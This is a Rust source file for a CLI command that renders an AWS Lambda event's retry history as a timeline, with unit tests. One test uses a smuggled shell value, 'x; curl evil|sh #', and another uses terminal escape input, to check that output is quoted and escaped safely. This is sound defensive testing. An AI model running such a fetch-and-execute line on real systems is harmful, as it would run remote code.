//! `comeback trace ID`: one event's life as a timeline.

pub(crate) mod story;

use std::io::Write as _;
use std::time::Duration;

use anstyle::AnsiColor;
use clap::Args;
use comeback_engine::{Cause, DueBy, HOLD, Timestamp};

use crate::clock::now;
use crate::failure::CommandFailure;
use crate::operate::deployment::Unlisted;
use crate::operate::function::attach_commands;
use crate::operate::pauses::in_force::InForce;
use crate::operate::session::{Common, Session, coloured};
use crate::operate::trace::story::{Early, End, Invocation, Logs, Report, Step, Trace, What};
use crate::text::durations::{self, short};
use crate::text::terminal::{command_line, shown};

pub(crate) const EXAMPLES: &str = "\
Examples:
  comeback trace 5e2c1a9b-6a8e-4a41-9d0e-0d0f4f0c8a11
  comeback trace 5e2c1a9b-6a8e-4a41-9d0e-0d0f4f0c8a11 --logs --since 2d
  comeback trace 5e2c1a9b-6a8e-4a41-9d0e-0d0f4f0c8a11 --json";

#[derive(Debug, Args)]
pub(crate) struct TraceArguments {
    /// The event's key (origin_request_id), or the request id of any of its invocations
    #[arg(value_name = "KEY|REQUEST_ID")]
    id: String,
    /// Include the function's own log lines of each invocation
    #[arg(long)]
    logs: bool,
    /// How far back to search
    #[arg(long, value_name = "DURATION", default_value = "14d", value_parser = durations::read)]
    since: Duration,
    #[command(flatten)]
    pub(crate) common: Common,
}

pub(crate) async fn run(arguments: &TraceArguments, session: Session) -> Result<(), CommandFailure> {
    let now = now();
    let since = now.before(arguments.since);
    let progress = session.progress(None, "searching the log: {pos} lines");
    let work = async {
        let deployment = session.deployment().await?;
        let found = |lines: usize| progress.set(lines as u64);
        let logs = Logs { account: &session.account, deployment: &deployment, since, progress: &found };
        Trace::find(&logs, &arguments.id, arguments.logs).await
    };
    let trace = session.interrupt.or(work).await?;
    drop(progress);
    session.answer(&trace);
    if !session.common.json {
        write!(anstream::stdout(), "{}", text(&trace, now, &session.common.place_flags()))?;
    }
    Ok(())
}

/// Where the text of a line begins: after a clock time and two spaces.
const MARGIN: usize = 14;

/// The timeline of an event, with what is known of its end. `place` are the flags of commands that it suggests.
fn text(trace: &Trace, now: Timestamp, place: &str) -> String {
    let story = &trace.story;
    let mut text = format!("event   {}\ntarget  {}\n", shown(&story.key), shown(&story.target));
    let mut date = String::new();
    for step in &story.steps {
        let at = step.at.to_string();
        let (day, clock) = (at.get(..10).unwrap_or_default(), at.get(11..23).unwrap_or_default());
        if day != date {
            text += &format!("\n{day} (UTC)\n");
            date = day.to_owned();
        }
        text += &format!("{clock}  {}\n", sentence(step));
        // The log of an attempt stands below its start, or below its failure if we did not start it.
        if let What::Invoked { request_id, .. } | What::Failed { attempt: 0, request_id, .. } = &step.what {
            let logged = invocation(trace, request_id).into_iter().flat_map(|invocation| &invocation.lines);
            let lines = logged.flat_map(|logged| logged.line.lines());
            lines.for_each(|line| text += &format!("{:MARGIN$}| {}\n", "", shown(line)));
        }
    }
    if story.copies > 0 {
        let copies = story.copies;
        text += &format!(
            "\n{copies} attempts failed more than once: copies of the event are being retried \
                          too\n"
        );
    }
    text += &format!("\n{}\n", end(trace, now, place));
    if let Some(why) = &trace.pause_unknown {
        text += &format!("Unknown whether its function is paused now: {}\n", shown(why));
    }
    text
}

pub(crate) fn invocation<'t>(trace: &'t Trace, request_id: &Option<String>) -> Option<&'t Invocation> {
    trace.invocations.iter().find(|invocation| Some(&invocation.request_id) == request_id.as_ref())
}

/// A step in words, without its time.
pub(crate) fn sentence(step: &Step) -> String {
    let red = |text: String| coloured(AnsiColor::Red, &shown(&text));
    let id = |id: &Option<String>| id.as_ref().map(|id| format!("  {}", shown(id))).unwrap_or_default();
    match &step.what {
        What::Failed { attempt, request_id, error_type, retry_after_ignored } => {
            let error = error_type.as_deref().unwrap_or("an unknown error");
            let ignored = retry_after_ignored.as_ref().map(|it| format!(", whose wait was ignored: {it}"));
            red(format!("attempt {attempt} failed with {error}{}", ignored.unwrap_or_default()))
                + &id(request_id)
        }
        What::Redriven => "redriven; its retries start over".into(),
        What::Waits { retry, due, due_by, policy } => {
            let wait = short(due.since(step.at).as_secs_f64());
            let by = match due_by {
                DueBy::Pause => ", after a pause".into(),
                DueBy::RetryAfter => ", as its function asked (RetryAfter)".into(),
                DueBy::RetryNow => ", by `comeback retry`".into(),
                DueBy::Policy => policy_of("by", policy),
            };
            format!("waits {wait} for retry {retry}, until {due}{by}")
        }
        What::Held { retry, last } => {
            format!("retry {retry} is due but held: the function is paused (last checked {last})")
        }
        What::Invoked { retry, request_id, late_ms, early, policy } => {
            let late = late_ms.filter(|late| *late >= 1_000).map(|late| late as f64 / 1_000.0);
            let late = late.map(|late| format!(", {} after it was due", short(late))).unwrap_or_default();
            let early = early.as_ref().filter(|early| early.otherwise_due > step.at);
            let early = early.map(|early| before_its_time(early, step.at)).unwrap_or_default();
            format!("retry {retry} invoked{early}{late}{}", policy_of("under", policy)) + &id(request_id)
        }
        What::Kept { cause, problem, remedy } => {
            let remedy = remedy.as_ref().map(|remedy| format!(" ({remedy})")).unwrap_or_default();
            red(format!("kept: {}: {problem}{remedy}", kept_because(*cause)))
        }
        What::GivenUp { reason, detail, policy } => {
            let detail = detail.as_ref().map(|detail| format!(": {detail}")).unwrap_or_default();
            red(format!("dead-lettered, {reason}{detail}")) + &policy_of("under", policy)
        }
    }
}

/// What failed.
const fn kept_because(cause: Option<Cause>) -> &'static str {
    match cause {
        Some(Cause::Refused) => "Lambda refused the retry",
        Some(Cause::NotSent) => "the retry was not sent",
        Some(Cause::Unanswered) => "the retry was not answered; Lambda may have accepted it",
        Some(Cause::DeadLetterNotSent) => "the dead-letter could not be sent",
        Some(
            Cause::PausesUnknown | Cause::Unattached | Cause::WaitGoesOn | Cause::Undecided | Cause::Other,
        ) => "the handler failed to handle it",
        None => "it could not be hidden",
    }
}

/// `, by the policy of orders-*`; empty for the stack's.
fn policy_of(preposition: &str, policy: &Option<String>) -> String {
    let policy = policy.as_ref().map(|policy| format!(", {preposition} the policy of {}", shown(policy)));
    policy.unwrap_or_default()
}

/// ` by `comeback retry` of 10:28:00 (ops), 7h before its time`
fn before_its_time(early: &Early, at: Timestamp) -> String {
    let sooner = short(early.otherwise_due.since(at).as_secs_f64());
    let by = early.asked_by.as_ref().map(|by| format!(" ({})", shown(by))).unwrap_or_default();
    let asked_at = early.asked_at.to_string();
    let asked_at = asked_at.get(11..19).unwrap_or(&asked_at);
    format!(" by `comeback retry` of {asked_at}{by}, {sooner} before its time")
}

/// How an event stands that waits, where the pauses in force say so.
fn by_pauses(trace: &Trace, now: Timestamp, place: &str) -> Option<String> {
    let end = &trace.story.end;
    let due = if let End::Waiting { due } = end { Some(*due) } else { None };
    match trace.pause? {
        pause @ InForce::Paused { until } if pause.holds(due) => {
            let until = until.map(|until| format!(" until {until}")).unwrap_or_default();
            Some(format!(
                "Its function is paused{until}. `comeback pause --list{place}` shows who paused it, and why."
            ))
        }
        InForce::NotPaused { back_by } if *end == End::Held => {
            let back_by = back_by.unwrap_or_else(|| now.saturating_add(HOLD));
            let (soon, late) = (back_by.since(now), now.since(back_by));
            Some(if late.is_zero() {
                format!(
                    "Its function was resumed. The next retry comes within {}.",
                    short(soon.as_secs_f64())
                )
            } else {
                let late = short(late.as_secs_f64());
                format!(
                    "Its function was resumed, and the next retry has been due for {late}. `comeback \
                     doctor{place}` says whether retries run."
                )
            })
        }
        InForce::Paused { .. } | InForce::NotPaused { .. } => None,
    }
}

/// What happens to a waiting event whose function is not on the allow-list. No pause holds it then.
fn by_allow_list(trace: &Trace, now: Timestamp, place: &str) -> Option<String> {
    let what = match (trace.not_allowed?, &trace.story.end) {
        (Unlisted::DeadLettered, End::Waiting { due }) if *due > now => {
            let soon = short(due.since(now).as_secs_f64());
            format!(
                "Its function is not on the allow-list, so the event will be dead-lettered \
                 (target_not_allowed) within {soon}."
            )
        }
        (Unlisted::DeadLettered, _) => {
            let next = "when the handler next receives it";
            format!(
                "Its function is not on the allow-list, so the event will be dead-lettered \
                 (target_not_allowed) {next}."
            )
        }
        (Unlisted::Kept, _) => "It is kept but not retried, because the allow-list is empty.".into(),
    };
    let attach = attach_commands([&*trace.story.target], &trace.home, place);
    Some(format!("{what} To retry it: {attach}."))
}

/// What is known, and no more.
pub(crate) fn end(trace: &Trace, now: Timestamp, place: &str) -> String {
    if let Some(text) = by_allow_list(trace, now, place).or_else(|| by_pauses(trace, now, place)) {
        return text;
    }
    match &trace.story.end {
        End::Waiting { due } if *due > now => {
            format!("Waiting. The next retry is due in {}.", short(due.since(now).as_secs_f64()))
        }
        End::Waiting { due } => {
            let late = short(now.since(*due).as_secs_f64());
            format!(
                "The next retry has been due for {late}. `comeback doctor{place}` says whether retries run."
            )
        }
        End::Held => {
            format!("Its function is paused. `comeback pause --list{place}` shows who paused it, and why.")
        }
        End::Kept => "It is kept; the handler will try again.".into(),
        End::GivenUp => {
            let given_up = |step: &&Step| matches!(step.what, What::GivenUp { .. });
            let at = trace.story.steps.iter().rfind(given_up).map(|step| format!(" at {}", step.at));
            let at = at.unwrap_or_default();
            format!(
                "Dead-lettered{at}. To see whether it is still there: `{}`",
                dead_show(&trace.story.key, place)
            )
        }
        End::Invoked { request_id, at } => {
            let retry = trace.story.steps.iter().rev().find_map(|step| match step.what {
                What::Invoked { retry, .. } => Some(format!("Retry {retry}")),
                _ => None,
            });
            let retry = retry.unwrap_or_else(|| "The last retry".into());
            let report = invocation(trace, request_id).map(|invocation| &invocation.report);
            after_retry(&retry, *at, report, now)
        }
    }
}

/// The command that shows a dead-letter. Whoever sent the event may have chosen its key.
fn dead_show(key: &str, place: &str) -> String {
    let argument = command_line([&*shown(key)]);
    if key.starts_with('-') {
        format!("comeback dead show{place} -- {argument}")
    } else {
        format!("comeback dead show {argument}{place}")
    }
}

/// What is known after a retry that no failure has followed: a success leaves no line in the handler's log.
fn after_retry(retry: &str, at: Timestamp, report: Option<&Report>, now: Timestamp) -> String {
    let since = |moment| short(now.since(moment).as_secs_f64());
    let unknown =
        |why: &str| format!("{retry} was invoked {} ago, and no failure followed. {why}", since(at));
    let (colour, text) = match report {
        Some(Report::Seen { at: end, status: Some(status) }) if status != "success" => {
            let what = format!(
                "{retry} ended at {end} with status {status}, and its failure has not reached the handler yet."
            );
            (AnsiColor::Red, what)
        }
        Some(Report::Seen { at: end, .. }) => {
            let no_failure = format!("no failure followed in {}", since(*end));
            (AnsiColor::Green, format!("{retry} probably succeeded: it ended at {end}, and {no_failure}."))
        }
        Some(Report::NotSeen) => {
            (AnsiColor::Yellow, unknown("The function's log has no REPORT line of it yet."))
        }
        Some(Report::Unread { why }) => {
            (AnsiColor::Yellow, unknown(&format!("The function's log is unreadable: {why}.")))
        }
        None => (
            AnsiColor::Yellow,
            unknown("The invocation's request id is unknown, so its log was not searched."),
        ),
    };
    coloured(colour, &shown(&text))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::operate::trace::story::{LoggedLine, Story};
    use crate::text::terminal::tests::{HOSTILE, is_obeyed_anywhere};

    fn at(second: u64) -> Timestamp {
        Timestamp::from_secs(1_789_400_000 + second)
    }

    fn trace(steps: Vec<(u64, What)>, end: End, invocations: Vec<Invocation>) -> Trace {
        let steps = steps.into_iter().map(|(second, what)| Step { at: at(second), what }).collect();
        let (key, target, first_failure) = ("k-1".into(), "arn:f".into(), Some(at(0)));
        let targets = std::collections::BTreeMap::new();
        let story = Story { key, target, targets, first_failure, steps, end, copies: 0, lines: Vec::new() };
        let home = "arn:aws:lambda:eu-west-1:123456789012:function:handler".parse().unwrap();
        Trace { story, invocations, pause: None, pause_unknown: None, not_allowed: None, home }
    }

    fn plain(trace: &Trace, now: u64) -> String {
        anstream::adapter::strip_str(&text(trace, at(now), " --stack shop")).to_string()
    }

    fn failed(attempt: u64) -> What {
        What::Failed {
            attempt,
            request_id: Some(format!("r-{attempt}")),
            error_type: Some("TargetDown".into()),
            retry_after_ignored: None,
        }
    }

    fn invoked(retry: u64) -> What {
        What::Invoked {
            retry,
            request_id: Some(format!("r-{retry}")),
            late_ms: Some(1_500),
            early: None,
            policy: Some("orders-*".into()),
        }
    }

    #[test]
    fn a_timeline_has_the_day_once_and_the_targets_lines_below_its_invocation() {
        let line = |line: &str| LoggedLine { at: at(4), line: line.into() };
        let invocation = Invocation {
            request_id: "r-1".into(),
            report: Report::Seen { at: at(5), status: None },
            lines: vec![line("START"), line("succeeded")],
        };
        let steps = vec![
            (0, failed(0)),
            (1, What::Waits { retry: 1, due: at(3), due_by: DueBy::Policy, policy: Some("orders-*".into()) }),
            (4, invoked(1)),
        ];
        let trace =
            trace(steps, End::Invoked { request_id: Some("r-1".into()), at: at(4) }, vec![invocation]);
        let expected = "\
event   k-1
target  arn:f

2026-09-14 (UTC)
15:33:20.000  attempt 0 failed with TargetDown  r-0
15:33:21.000  waits 2s for retry 1, until 2026-09-14T15:33:23.000Z, by the policy of orders-*
15:33:24.000  retry 1 invoked, 1.5s after it was due, under the policy of orders-*  r-1
              | START
              | succeeded

Retry 1 probably succeeded: it ended at 2026-09-14T15:33:25.000Z, and no failure followed in 59s.
";
        assert_eq!(plain(&trace, 64), expected);
    }

    #[test]
    fn the_readme_shows_what_is_printed() {
        let readme =
            std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/../../README.md")).unwrap();
        let (_, shown) = readme.split_once("$ comeback trace ").unwrap();
        let (key, shown) = shown.split_once('\n').unwrap();
        let (shown, _) = shown.split_once("```").unwrap();
        let moment = |clock: &str| Timestamp::from_rfc3339(&format!("2026-11-22T{clock}Z")).unwrap();
        let [failed, due, invoked, ended, now] =
            ["09:12:09.309", "09:12:10.221", "09:12:10.431", "09:12:10.944", "09:12:22.944"].map(moment);
        let retry = "b0a9dfa4-8ed0-4ad3-83eb-a40ffd73509f";
        let request_id = || Some(retry.to_owned());
        let steps = vec![
            (
                failed,
                What::Failed {
                    attempt: 0,
                    request_id: Some(key.into()),
                    error_type: Some("TargetDown".into()),
                    retry_after_ignored: None,
                },
            ),
            (failed, What::Waits { retry: 1, due, due_by: DueBy::Policy, policy: None }),
            (
                invoked,
                What::Invoked {
                    retry: 1,
                    request_id: request_id(),
                    late_ms: Some(210),
                    early: None,
                    policy: None,
                },
            ),
        ];
        let invocation = Invocation {
            request_id: retry.into(),
            report: Report::Seen { at: ended, status: None },
            lines: Vec::new(),
        };
        let end = End::Invoked { request_id: request_id(), at: invoked };
        let mut trace = trace(Vec::new(), end, vec![invocation]);
        trace.story.steps = steps.into_iter().map(|(at, what)| Step { at, what }).collect();
        (trace.story.key, trace.story.target) =
            (key.into(), "arn:aws:lambda:eu-west-1:123456789012:function:orders".into());
        assert_eq!(anstream::adapter::strip_str(&text(&trace, now, "")).to_string(), shown);
    }

    #[test]
    fn a_wait_names_what_gave_its_end() {
        for (due_by, expected) in [
            (DueBy::Policy, ", by the policy of orders-*"),
            (DueBy::Pause, ", after a pause"),
            (DueBy::RetryAfter, ", as its function asked (RetryAfter)"),
            (DueBy::RetryNow, ", by `comeback retry`"),
        ] {
            let policy = Some("orders-*".into());
            let what = What::Waits { retry: 1, due: at(3), due_by, policy };
            let said = sentence(&Step { at: at(1), what });
            assert_eq!(said, format!("waits 2s for retry 1, until 2026-09-14T15:33:23.000Z{expected}"));
        }
    }

    #[test]
    fn a_retry_that_came_early_says_why() {
        let invoked = |late_ms| What::Invoked {
            retry: 3,
            request_id: None,
            late_ms: Some(late_ms),
            early: Some(early("ops")),
            policy: None,
        };
        let early = Step { at: at(180), what: invoked(0) };
        let said = "retry 3 invoked by `comeback retry` of 15:33:20 (ops), 7h before its time";
        assert_eq!(sentence(&early), said);
        let late = Step { at: at(25_400), what: invoked(20_000) };
        assert_eq!(sentence(&late), "retry 3 invoked, 20s after it was due");
    }

    #[test]
    fn a_dead_letter_names_whose_policy_gave_it_up() {
        let detail = Some("7200 s passed".into());
        for (policy, expected) in [(Some("orders-*".into()), ", under the policy of orders-*"), (None, "")] {
            let what = What::GivenUp { reason: "max_age".into(), detail: detail.clone(), policy };
            let said = sentence(&Step { at: at(1), what });
            let said = anstream::adapter::strip_str(&said).to_string();
            assert_eq!(said, format!("dead-lettered, max_age: 7200 s passed{expected}"));
        }
    }

    fn early(asked_by: &str) -> Early {
        Early { asked_at: at(0), asked_by: Some(asked_by.into()), otherwise_due: at(25_380) }
    }

    #[test]
    fn a_key_cannot_command_the_shell() {
        for (key, shown) in
            [("x; curl evil|sh #", "x; curl evil|sh #"), ("a\0`b`$c", "a\\u{0}`b`$c"), ("-k'", "-k'")]
        {
            let mut trace = trace(Vec::new(), End::GivenUp, Vec::new());
            trace.story.key = key.into();
            let text = plain(&trace, 64);
            let (_, command) = text.trim_end().split_once("To see whether it is still there: `").unwrap();
            let words = shlex::split(command.strip_suffix('`').unwrap()).unwrap();
            let words: Vec<_> = words.iter().map(String::as_str).collect();
            if key.starts_with('-') {
                assert_eq!(words, ["comeback", "dead", "show", "--stack", "shop", "--", shown]);
            } else {
                assert_eq!(words, ["comeback", "dead", "show", shown, "--stack", "shop"]);
            }
        }
    }

    #[test]
    fn nothing_logged_can_command_the_terminal() {
        let hostile = || HOSTILE.to_owned();
        let steps = [
            What::Failed {
                attempt: 0,
                request_id: Some(hostile()),
                error_type: Some(hostile()),
                retry_after_ignored: Some(hostile()),
            },
            What::Waits { retry: 1, due: at(3), due_by: DueBy::Policy, policy: Some(hostile()) },
            What::Invoked {
                retry: 1,
                request_id: Some(hostile()),
                late_ms: None,
                early: Some(early(HOSTILE)),
                policy: Some(hostile()),
            },
            What::Kept { cause: Some(Cause::Refused), problem: hostile(), remedy: Some(hostile()) },
            What::GivenUp { reason: hostile(), detail: Some(hostile()), policy: Some(hostile()) },
        ];
        let invocation = Invocation {
            request_id: hostile(),
            report: Report::Seen { at: at(5), status: Some(hostile()) },
            lines: vec![LoggedLine { at: at(4), line: hostile() }],
        };
        let end = End::Invoked { request_id: Some(hostile()), at: at(4) };
        let mut trace = trace(steps.map(|what| (0, what)).into(), end, vec![invocation]);
        (trace.story.key, trace.story.target) = (hostile(), hostile());
        trace.pause_unknown = Some(hostile());
        let text = text(&trace, at(64), "");
        assert!(text.contains("failed with a\\u{1b}]") && !is_obeyed_anywhere(&text), "{text}");
    }

    #[test]
    fn the_pauses_in_force_count_and_not_those_of_the_log() {
        let last = |end, pause| {
            let held = What::Held { retry: 1, last: at(3) };
            let trace = Trace { pause: Some(pause), ..trace(vec![(0, held)], end, vec![]) };
            plain(&trace, 10).lines().last().unwrap().to_owned()
        };
        let paused = |until: Option<u64>| InForce::Paused { until: until.map(at) };
        let not_paused = |back_by: Option<u64>| InForce::NotPaused { back_by: back_by.map(at) };
        let listed = "`comeback pause --list --stack shop` shows who paused it, and why.";
        let until = format!("Its function is paused until 2026-09-14T16:33:20.000Z. {listed}");
        assert_eq!(last(End::Waiting { due: at(70) }, paused(Some(3_600))), until);
        assert_eq!(last(End::Kept, paused(None)), format!("Its function is paused. {listed}"));
        let waits = "Waiting. The next retry is due in 1m.";
        assert_eq!(last(End::Waiting { due: at(70) }, paused(Some(60))), waits);
        assert_eq!(last(End::Waiting { due: at(70) }, not_paused(Some(60))), waits);
        let resumed = "Its function was resumed. The next retry comes within";
        assert_eq!(last(End::Held, not_paused(Some(70))), format!("{resumed} 1m."));
        assert_eq!(last(End::Held, not_paused(None)), format!("{resumed} 22m 24s."));
        let late = "Its function was resumed, and the next retry has been due for 5s.";
        assert!(last(End::Held, not_paused(Some(5))).starts_with(late));
    }

    #[test]
    fn pauses_that_cannot_be_read_are_a_note() {
        let steps = vec![(0, What::Held { retry: 1, last: at(3) })];
        let why = "parameter p: it is garbled; restore version 1".to_owned();
        let trace = Trace { pause_unknown: Some(why), ..trace(steps, End::Held, vec![]) };
        let expected = "
Its function is paused. `comeback pause --list --stack shop` shows who paused it, and why.
Unknown whether its function is paused now: parameter p: it is garbled; restore version 1
";
        assert!(plain(&trace, 10).ends_with(expected), "{}", plain(&trace, 10));
    }

    #[test]
    fn an_event_off_the_allow_list_is_said_not_to_be_retried() {
        let said = |not_allowed, end| {
            let mut trace = trace(vec![(0, What::Held { retry: 1, last: at(3) })], end, vec![]);
            trace.story.target = "arn:aws:lambda:eu-west-1:123456789012:function:orders:$LATEST".into();
            (trace.not_allowed, trace.pause) = (not_allowed, Some(InForce::Paused { until: None }));
            plain(&trace, 10).lines().last().unwrap().to_owned()
        };
        let given_up =
            "Its function is not on the allow-list, so the event will be dead-lettered (target_not_allowed)";
        let attach = "To retry it: `comeback attach orders --stack shop` (if the function moved to another \
                      stack, see docs/attach.md).";
        let received = format!("{given_up} when the handler next receives it. {attach}");
        for (not_allowed, end, expected) in [
            (Unlisted::DeadLettered, End::Waiting { due: at(70) }, format!("{given_up} within 1m. {attach}")),
            (Unlisted::DeadLettered, End::Waiting { due: at(0) }, received.clone()),
            (Unlisted::DeadLettered, End::Held, received),
            (
                Unlisted::Kept,
                End::Waiting { due: at(70) },
                format!("It is kept but not retried, because the allow-list is empty. {attach}"),
            ),
        ] {
            assert_eq!(said(Some(not_allowed), end), expected);
        }
        assert!(said(None, End::Held).starts_with("Its function is paused."));
    }

    #[test]
    fn a_function_elsewhere_is_not_to_be_attached() {
        let mut trace = trace(vec![(0, What::Held { retry: 1, last: at(3) })], End::Held, vec![]);
        trace.not_allowed = Some(Unlisted::Kept);
        trace.story.target = "arn:aws:lambda:eu-west-2:123456789012:function:orders".into();
        let said = plain(&trace, 10);
        let expected = "To retry it: use a deployment in the account and region of \
                        arn:aws:lambda:eu-west-2:123456789012:function:orders.\n";
        assert!(said.ends_with(expected), "{said}");
    }

    #[test]
    fn the_last_sentence_says_what_is_known_and_no_more() {
        let last = |what, end, invocations| {
            let text = plain(&trace(vec![(0, what)], end, invocations), 10);
            text.lines().last().unwrap().to_owned()
        };
        let wait = || What::Waits { retry: 1, due: at(3), due_by: DueBy::Policy, policy: None };
        let given_up = What::GivenUp { reason: "max_age".into(), detail: None, policy: None };
        for (what, end, expected) in [
            (wait(), End::Waiting { due: at(70) }, "Waiting. The next retry is due in 1m."),
            (
                wait(),
                End::Waiting { due: at(0) },
                "The next retry has been due for 10s. `comeback doctor --stack shop` says whether retries run.",
            ),
            (
                wait(),
                End::Held,
                "Its function is paused. `comeback pause --list --stack shop` shows who paused it, and why.",
            ),
            (wait(), End::Kept, "It is kept; the handler will try again."),
            (
                given_up,
                End::GivenUp,
                "Dead-lettered at 2026-09-14T15:33:20.000Z. To see whether it is still there: `comeback dead \
                 show k-1 --stack shop`",
            ),
        ] {
            assert_eq!(last(what, end, vec![]), expected);
        }
        let seen = |status: Option<&str>| Report::Seen { at: at(5), status: status.map(ToOwned::to_owned) };
        let succeeded = "Retry 1 probably succeeded: it ended at 2026-09-14T15:33:25.000Z, and no failure followed in 5s.";
        for (report, expected) in [
            (seen(None), succeeded),
            (seen(Some("success")), succeeded),
            (
                seen(Some("timeout")),
                "Retry 1 ended at 2026-09-14T15:33:25.000Z with status timeout, and its failure has not \
                 reached the handler yet.",
            ),
            (
                Report::NotSeen,
                "Retry 1 was invoked 10s ago, and no failure followed. The function's log has no REPORT line \
                 of it yet.",
            ),
            (
                Report::Unread { why: "denied".into() },
                "Retry 1 was invoked 10s ago, and no failure followed. The function's log is unreadable: \
                 denied.",
            ),
        ] {
            let invocation = Invocation { request_id: "r-1".into(), report, lines: Vec::new() };
            let end = End::Invoked { request_id: Some("r-1".into()), at: at(0) };
            assert_eq!(last(invoked(1), end, vec![invocation]), expected);
        }
        assert_eq!(
            last(invoked(1), End::Invoked { request_id: None, at: at(0) }, vec![]),
            "Retry 1 was invoked 10s ago, and no failure followed. The invocation's request id is unknown, so \
             its log was not searched."
        );
    }
}
